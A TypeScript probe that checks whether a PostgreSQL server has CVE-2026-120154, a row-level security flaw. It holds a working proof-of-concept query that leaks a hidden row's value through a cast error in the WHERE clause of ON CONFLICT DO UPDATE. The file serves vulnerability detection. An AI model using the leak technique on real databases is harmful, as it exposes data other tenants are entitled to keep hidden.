/** CVE-2026-120154: the WHERE of ON CONFLICT DO UPDATE is given the hidden row before the policy is asked. */
import { CannotTell, type Probe } from "../probe.ts";

/** The probe. */
export const onConflictWhere: Probe = {
  cve: "CVE-2026-120154",
  title: "ON CONFLICT DO UPDATE … WHERE sees a hidden row",
  async run({ run, attempt, become, leave, give }) {
    await run("create temporary table watertight_t (id int primary key, tenant int, secret text)");
    await run("insert into pg_temp.watertight_t values (2, 2, 'hidden')");
    await run("alter table pg_temp.watertight_t enable row level security");
    await run("create policy own on pg_temp.watertight_t using (tenant = 1)");
    await give("pg_temp.watertight_t");
    await become();
    const answer = await attempt(
      "insert into pg_temp.watertight_t values (2, 1, 'mine') on conflict (id) do update set secret = 'mine' where watertight_t.secret::int = 1",
    );
    await leave();
    if (!("code" in answer)) throw new CannotTell("the insert was not refused");
    if (answer.code === "22P02" && answer.message.includes("hidden"))
      return { vulnerable: true, evidence: "a cast in WHERE printed the value of a row that the policy hides" };
    if (answer.code === "42501")
      return { vulnerable: false, evidence: "the policy refused before WHERE was asked (42501)" };
    throw new CannotTell(answer.message);
  },
};
